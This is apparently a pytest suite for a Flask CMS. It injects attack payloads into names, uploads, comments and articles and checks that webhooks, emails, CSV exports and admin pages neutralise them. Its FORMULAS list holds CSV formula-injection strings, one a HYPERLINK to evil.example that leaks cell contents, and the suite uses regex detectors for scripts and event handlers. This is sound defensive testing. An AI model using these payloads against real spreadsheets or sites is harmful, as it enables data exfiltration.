"""Payloads changed in what is one line: names, files, tags, webhooks, letters, cells, the desk's search."""

import csv
import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from io import BytesIO, StringIO
from typing import Any
from urllib.parse import urlencode

import pytest
from flask import Flask

from cms.core.db import db
from cms.core.text import clean
from cms.worker.queued import mail, run_outbox
from tests.api import Api
from tests.doors.admin.pages import Form, Page, Visitor
from tests.drawings import png
from tests.post_office import PostOffice
from tests.unit.core.mutations import some
from tests.unit.core.payloads import ATTACKS
from tests.unit.delivery.webhooks.hooks import deliveries, hook, house

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "'=1",
    "＝1+1",
]
CHANGED = some([*ATTACKS.values(), *FORMULAS], 80)
HOOKED, WRITTEN, LISTED, SHOWN = ([*CHANGED[start::4], *FORMULAS] for start in range(4))
OURS = ("https://cms.example", "https://clinic.example")
TABLES = ("articles", "exercises", "authors", "tags", "redirects", "media", "replies", "commenters", "comments", "log")
STARTS_A_FORMULA = re.compile(r"\s*[=+\-@\t\r\n＝＋－＠]")
pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


@pytest.fixture
def environment(office: PostOffice) -> dict[str, str]:
    """Have a mail server, show comments at once, and let readers write as fast as tests do."""
    return {
        "CMS_SMTP_URL": office.url,
        "CMS_MAIL_FROM": "desk@clinic.example",
        "CMS_COMMENT_RATE": "off",
        "CMS_COMMENT_HOLD": "flagged",
    }


@dataclass
class Site:
    """Somebody of each role, and what they typed."""

    api: Callable[..., Api]
    taken: dict[str, int] = field(default_factory=dict)

    def type(self, role: str, path: str, members: dict[str, Any]) -> dict[str, Any]:
        """Send it; an answer of the server that is none is a fault, one that refuses gives nothing."""
        answer = self.api(role).post(path, members) if role else self.api().post(path, members)
        return self._noted(path.split("/")[1], answer)

    def upload(self, name: str, members: dict[str, str]) -> dict[str, Any]:
        """Send a picture whose file has a name."""
        data = {"file": (BytesIO(png()), name), **members}
        return self._noted("media", self.api("editor").call("POST", "/media", data=data))

    def _noted(self, kind: str, answer: Any) -> dict[str, Any]:
        assert answer.status_code in {200, 201, 202, 400, 409, 415, 422}, (kind, answer.get_data(as_text=True))
        if answer.status_code >= 300:
            return {}
        self.taken[kind] = self.taken.get(kind, 0) + 1
        return dict(answer.get_json())


@pytest.fixture
def site(api: Callable[..., Api]) -> Site:
    """Give a site that people type into."""
    return Site(api)


def one_line(told: str) -> str:
    return told.replace("\x00", "")[:80].strip() or "x"


def filled(site: Site, told: list[str]) -> None:
    """Have each text typed wherever a line can be: a name, a tag, a file, a redirect, a reply, a comment."""
    for number, each in enumerate(told):
        line = one_line(each)
        site.type("editor", "/tags", {"name": line})
        site.type("editor", "/authors", {"name": line, "credentials": line, "bio": each[:200]})
        site.type("editor", "/redirects", {"from": f"/old-{number}", "to": f"/{line}"})
        site.type("admin", "/moderation/replies", {"title": line, "body": each[:200] or "x"})
        site.upload(line, {"alt": line, "caption": line})
        site.type("editor", "/exercises", {"title": line, "steps": [{"text": line}], "equipment": [line]})
        made = site.type("editor", "/articles", {"title": line, "summary": line, "content_html": f"<p>A.</p>{each}"})
        if made:
            site.type("editor", f"/articles/{made['id']}/publish", {"version": made["version"]})
            reader = {"author_name": line, "author_email": "jo@reader.example", "notify_replies": True}
            path = f"/articles/{made['slug']}/comments"
            said = site.type("", path, {**reader, "body": f"Thank you, number {number}. {each}"[:2000]})
            if not said:
                continue
            if said["status"] != "approved":
                site.api("moderator").decided("approve", said["comment"]["id"])
            again = {**reader, "author_name": f"Kim {line}"[:80], "author_email": "kim@reader.example"}
            site.type(
                "", path, {**again, "parent_id": said["comment"]["id"] if said else None, "body": f"And I, {each}"}
            )


def test_what_webhooks_are_told_holds_nothing_that_anybody_typed(app: Flask, site: Site) -> None:
    hook(app, "https://hooks.example/in")
    filled(site, HOOKED)
    bodies = [each.body for each in deliveries()]
    assert {json.loads(each)["type"] for each in bodies} >= {
        "article.published",
        "comment.received",
        "comment.approved",
    }
    for body in bodies:
        assert re.search(r"[<>\\]|reader\.example|Thank you", body) is None, body


def test_no_letter_holds_anything_foreign(app: Flask, office: PostOffice, site: Site) -> None:
    filled(site, WRITTEN)
    for _round in range(3):
        run_outbox(house(app))
        mail(house(app))
        db.session.remove()
    assert office.letters
    for letter in office.letters:
        html = letter.get_body(("html",))
        if html is not None:
            assert faults_of(html.get_content()) == []
        assert all("\n" not in str(value) for value in letter.values())


def faults_of(html: str) -> list[str]:
    """Give what would run in a letter: no element and no address of one may."""
    scripts = re.findall(r"<(script|iframe|object|embed|form|svg|math|base|link|img)\b", html, re.IGNORECASE)
    events = re.findall(r"<[a-z][^<>]*?\s(on\w+)\s*=", html, re.IGNORECASE)
    addresses = [each for each in re.findall(r'(?:href|src)="([^"]*)"', html) if not each.startswith(OURS)]
    return [*scripts, *events, *addresses]


def test_no_cell_of_a_table_is_a_formula_or_ends_its_line(site: Site, signed_in: Callable[[str], Visitor]) -> None:
    filled(site, LISTED)
    admin = signed_in("admin")
    form = next(each for each in admin.page("/admin/articles").forms if each.action.startswith("/admin/tables/"))
    marked: set[str] = set()
    for name in TABLES:
        with admin.sent(Form(f"/admin/tables/{name}", "post", form.fields)) as answer:
            header, *rows = csv.reader(StringIO(answer.get_data().decode("utf-8-sig"), newline=""))
        assert rows, name
        marked |= {name for row in rows for cell in row if cell.startswith("'")}
        assert all(len(row) == len(header) for row in rows), name
        assert [cell for row in rows for cell in row if STARTS_A_FORMULA.match(cell) and not number(cell)] == [], name
    assert marked >= {"articles", "exercises", "authors", "tags"}, "formulas were typed"


def number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def test_the_desk_shows_and_finds_it_as_text(site: Site, signed_in: Callable[[str], Visitor]) -> None:
    filled(site, SHOWN)
    admin = signed_in("admin")
    lists = ["tags", "authors", "redirects", "replies", "media", "articles", "comments", "commenters", "log"]
    addresses = [f"/admin/{name}" for name in lists]
    addresses += [f"/admin/search?{urlencode({'q': clean(each)[:80]})}" for each in SHOWN]
    addresses += [f"/admin/articles?{urlencode({'q': each[:80]})}" for each in SHOWN]
    for address in addresses:
        answer = admin.get(address)
        assert answer.status_code in {200, 400}, address
        assert Page(answer).faults == [], address


def test_the_name_of_a_file_is_kept_as_a_line_and_used_as_no_path(app: Flask, site: Site) -> None:
    for each in CHANGED:
        made = site.upload(one_line(each), {"alt": one_line(each)})
        if made:
            assert re.search(r"[/\\\x00-\x1f\x7f]", made["file_name"]) is None
            assert re.fullmatch(r"https://cms\.example/media/[0-9a-z]+/\d+\.webp", made["url"])
    assert site.taken["media"] > len(CHANGED) // 2
    stored = list(app.extensions["vertebra"].store.keys())
    assert all(re.fullmatch(r"[0-9a-z./_-]+", key) for key in stored)
